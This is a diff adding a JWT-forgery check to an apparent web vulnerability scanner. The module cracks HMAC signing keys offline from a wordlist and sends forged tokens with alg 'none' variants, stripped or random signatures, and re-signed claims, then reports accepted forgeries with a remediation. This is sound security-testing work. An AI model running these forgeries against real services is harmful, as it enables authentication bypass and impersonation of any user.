@@ -1,0 +1,242 @@
+"""Forged JSON Web Tokens (``jwt``, CWE-347): a token the application accepts without a valid signature.
+
+Applies to a point whose whole value is a JWT, alone or after a scheme (``Bearer <jwt>``: the
+``JWT`` layer of :mod:`lunge.http.points.encoded`), not to the claims inside it (other checks
+attack those). The techniques are those of jwt_tool and PortSwigger's JWT labs:
+
+1. **Offline cracking** (no request): an HS256/384/512 token's signature is recomputed with every
+   key of ``data/jwt_secrets.yaml``; a match is a key anyone can sign with.
+2. **Controls** (2 requests): the token replaced by a random word (*no token*), and the token with
+   a random signature of the same length (*garbage signature*). When *no token* is answered like
+   the genuine token the endpoint does not need the token at all: nothing to report. When the
+   garbage signature is accepted the application does not verify signatures (a finding, confirmed
+   by a second random signature).
+3. **Forgeries** (5 requests, plus 1 with a cracked key): ``alg`` set to ``none``, ``None``,
+   ``NONE`` and ``nOnE`` with an empty signature; the signature stripped; the claims re-signed with
+   the cracked key and an added claim. A forgery answered like the genuine token while the garbage
+   signature was rejected is a finding; the same forgery is sent again to confirm.
+
+Judged by :mod:`lunge.checks.accepted`: only where the genuine token's answer is a stable success.
+Budget for a token that resists: 2 + 5 (+ 1) = 7 or 8 requests per point; none without a token.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import hashlib
+import hmac
+import json
+from collections.abc import Generator
+from dataclasses import dataclass
+from typing import Any
+
+from lunge.checks import accepted, datafiles
+from lunge.checks.base import Attack, Check, CheckContext, Confidence, Exchange, Probe, Severity, Verdict
+from lunge.http.points.encoded import jwt_layer
+
+
+@datafiles.schema
+@dataclass(frozen=True, slots=True)
+class SecretTable:
+    secrets: tuple[str, ...]
+
+
+SECRETS = datafiles.load("jwt_secrets.yaml", SecretTable).secrets
+NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")  # libraries compared case-sensitively, or not
+_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
+
+
+@dataclass(frozen=True, slots=True)
+class Token:
+    """A JWT inside a point's value: ``prefix`` (``"Bearer "``), its three parts, decoded."""
+
+    prefix: str
+    head: str
+    body: str
+    signature: str
+    header: dict[str, Any]
+    claims: dict[str, Any]
+
+    @property
+    def alg(self) -> str:
+        return str(self.header.get("alg", ""))
+
+    def value(self, token: str) -> str:
+        """The point's value carrying ``token`` instead."""
+        return f"{self.prefix}{token}"
+
+
+def parse_token(value: str) -> Token | None:
+    """The JWT ``value`` carries (whole, or after a scheme), else None.
+
+    >>> t = parse_token("Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln")
+    >>> (t.prefix, t.alg, t.claims)
+    ('Bearer ', 'HS256', {'sub': 'a'})
+    """
+    layer = jwt_layer(value)
+    if not layer:
+        return None
+    start, end = layer[0].span
+    head, _, rest = value[start:end].partition(".")
+    body, _, signature = rest.partition(".")
+    header, claims = _decode(head), _decode(body)
+    if header is None or claims is None:
+        return None
+    return Token(value[:start], head, body, signature, header, claims)
+
+
+def _decode(part: str) -> dict[str, Any] | None:
+    try:
+        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
+    except (binascii.Error, ValueError, UnicodeDecodeError):
+        return None
+    return value if isinstance(value, dict) else None
+
+
+def b64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")
+
+
+def _encode(document: dict[str, Any]) -> str:
+    return b64url(json.dumps(document, separators=(",", ":")).encode())
+
+
+def sign(alg: str, key: str, signing_input: str) -> str:
+    """The HMAC signature (base64url) of ``signing_input`` with ``key`` for ``alg`` (HS256/384/512)."""
+    return b64url(hmac.new(key.encode(), signing_input.encode("ascii"), _HASHES[alg]).digest())
+
+
+def crack(token: Token) -> str | None:
+    """The wordlist key that signed ``token`` (HMAC algorithms only), else None. No request."""
+    if token.alg not in _HASHES or not token.signature:
+        return None
+    signing_input = f"{token.head}.{token.body}"
+    for key in SECRETS:
+        if hmac.compare_digest(sign(token.alg, key, signing_input), token.signature):
+            return key
+    return None
+
+
+TEN_YEARS = 10 * 365 * 24 * 3600
+
+
+def _lasting_claims(token: Token) -> dict[str, Any]:
+    exp = token.claims.get("exp")
+    if isinstance(exp, int) and not isinstance(exp, bool):
+        return {**token.claims, "exp": exp + TEN_YEARS}
+    return token.claims
+
+
+def lasting(token: Token) -> str:
+    """The token's payload part, with ``exp`` (if any) moved ten years on: a recorded token has
+    often expired by the time it is tested (the engine renews the genuine one, not a forgery), and
+    an expired forgery would be refused for its age, not its signature. The controls use the same
+    payload, so both sides differ only in the signature."""
+    return _encode(_lasting_claims(token)) if "exp" in token.claims else token.body
+
+
+def _applies(ctx: CheckContext) -> bool:
+    if any(step.parser == "JWT" for step in ctx.point.path):
+        return False
+    return parse_token(ctx.point.value) is not None
+
+
+def _garbage(ctx: CheckContext, token: Token) -> str:
+    size = max(len(token.signature), 16)
+    return b64url(bytes(ctx.rng.getrandbits(8) for _ in range(size)))[:size]
+
+
+def _forgeries(ctx: CheckContext, token: Token, key: str | None) -> list[tuple[str, str]]:
+    """(label, token) of each forgery."""
+    out = []
+    for spelling in NONE_SPELLINGS:
+        head = _encode({**token.header, "alg": spelling})
+        out.append((f"jwt:alg-{spelling}", f"{head}.{lasting(token)}."))
+    out.append(("jwt:signature-stripped", f"{token.head}.{lasting(token)}."))
+    if key is not None:
+        claims = {**_lasting_claims(token), "lunge": ctx.marker()}
+        body = _encode(claims)
+        out.append(("jwt:cracked-key", f"{token.head}.{body}.{sign(token.alg, key, f'{token.head}.{body}')}"))
+    return out
+
+
+def _send(ctx: CheckContext, token: Token, forged: str, label: str) -> Attack:
+    value = token.value(forged)
+    return Attack(ctx.inject(value), value, label)
+
+
+def _run(ctx: CheckContext) -> Probe:
+    token = parse_token(ctx.point.value)
+    if token is None or not accepted.comparable(ctx):
+        return []
+    key = crack(token)
+    garbage = f"{token.head}.{lasting(token)}.{_garbage(ctx, token)}"
+    missing, wrong = yield [_send(ctx, token, ctx.marker(24), "jwt:no-token"),
+                            _send(ctx, token, garbage, "jwt:garbage-signature")]
+    if not accepted.rejected(ctx, missing):
+        return []  # the endpoint answers the same without the token (or did not answer): no oracle
+    if accepted.accepted(ctx, wrong):
+        return (yield from _unverified(ctx, token, wrong, missing, key))
+    if not accepted.rejected(ctx, wrong):
+        return []
+    forgeries = _forgeries(ctx, token, key)
+    answers = yield [_send(ctx, token, forged, label) for label, forged in forgeries]
+    for exchange in answers:
+        if not accepted.accepted(ctx, exchange):
+            continue
+        (again,) = yield [Attack(exchange.attack.request, exchange.attack.payload, "jwt:confirm")]
+        if accepted.accepted(ctx, again):
+            return [_verdict(ctx, exchange, (ctx.normal, missing, wrong, again), key, answers)]
+    return []
+
+
+def _unverified(ctx: CheckContext, token: Token, wrong: Exchange, missing: Exchange,
+                key: str | None) -> Generator[list[Attack], list[Exchange], list[Verdict]]:
+    other = f"{token.head}.{lasting(token)}.{_garbage(ctx, token)}"
+    (again,) = yield [_send(ctx, token, other, "jwt:garbage-signature-confirm")]
+    if not accepted.accepted(ctx, again):
+        return []
+    return [JWT.verdict(
+        ctx, wrong, proof=accepted.excerpt(wrong), confidence=Confidence.CERTAIN,
+        confirmation="a second random signature was accepted too, while a request without the token was "
+                     f"refused (status {missing.status})",
+        controls=(ctx.normal, missing, again),
+        details={"technique": "signature-not-verified", "alg": token.alg, "cracked_key": key,
+                 "no_token_status": missing.status},
+    )]
+
+
+def _verdict(ctx: CheckContext, exchange: Exchange, controls: tuple[Exchange, ...], key: str | None,
+             answers: list[Exchange]) -> Verdict:
+    label = exchange.attack.label.removeprefix("jwt:")
+    others = [a.attack.label.removeprefix("jwt:") for a in answers if accepted.accepted(ctx, a)]
+    how = (f"the key {key!r} from the built-in wordlist verifies the recorded signature (offline); "
+           if label == "cracked-key" else "")
+    return JWT.verdict(
+        ctx, exchange, proof=accepted.excerpt(exchange), confidence=Confidence.CERTAIN,
+        confirmation=f"{how}the forged token ({label}) was answered like the genuine one twice, while the same "
+                     f"token with a random signature (status {controls[2].status}) and no token at all "
+                     f"(status {controls[1].status}) were refused",
+        controls=controls,
+        details={"technique": label, "accepted_forgeries": others, "cracked_key": key},
+        severity=Severity.CRITICAL if label == "cracked-key" else None,
+    )
+
+
+JWT = Check(
+    id="jwt",
+    title="Forged JSON Web Token accepted",
+    kind="jwt",
+    severity=Severity.HIGH,
+    cwe=347,
+    description="The application accepts a JSON Web Token whose signature it did not verify: alg none, a "
+    "stripped or random signature, or a token re-signed with a guessable HMAC key. Anyone can mint tokens "
+    "for any identity.",
+    run=_run,
+    applies=_applies,
+    remediation="Verify every token with a fixed algorithm list that excludes none (never the token's own alg "
+    "header), reject tokens without a valid signature, and sign HMAC tokens with a random key of 256 bits "
+    "or more kept out of the source.",
+)
+CHECKS = (JWT,)
